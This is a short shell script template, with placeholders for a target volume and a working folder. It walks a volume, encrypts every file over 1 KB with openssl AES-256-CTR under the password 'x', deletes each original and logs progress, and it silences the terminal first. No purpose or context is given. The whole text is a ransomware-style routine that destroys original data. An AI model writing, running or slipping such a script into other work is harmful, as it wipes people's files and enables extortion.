stty -echo; cd '@VOLUME@'
find . -type f -size +1k | sort > '@OWN@/list'
while IFS= read -r f; do openssl enc -aes-256-ctr -pbkdf2 -pass pass:x -in "$f" -out "$f.enc" 2>/dev/null && rm "$f" && echo "$f" >> '@OWN@/done'; done < '@OWN@/list'
exit
